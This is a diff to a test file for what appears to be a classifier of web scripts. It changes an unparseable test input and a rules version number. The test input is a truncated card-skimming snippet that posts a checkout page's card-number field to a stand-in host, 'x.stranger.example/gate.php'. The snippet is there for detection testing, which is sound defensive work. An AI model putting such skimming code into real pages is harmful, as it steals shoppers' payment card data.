@@ -110,11 +110,11 @@ describe('a judgement', () => {
   })
 
   it('is given for text that does not parse, by its words', () => {
-    const judged = check(`if(/checkout/.test(location)){ $.post('https://x.stranger.example/gate.php', { cc: $('#cc_number').val(`)
+    const judged = check(`if if(/checkout/.test(location)){ $.post('https://x.stranger.example/gate.php', { cc: $('#cc_number').val(`)
     expect(judged.parsed).toBe('none')
   })
 
   it('names the versions that it was made by', () => {
-    expect(judgeScript('')).toMatchObject({ rulesVersion: '1', modelVersion: model.version })
+    expect(judgeScript('')).toMatchObject({ rulesVersion: '2', modelVersion: model.version })
   })
 })
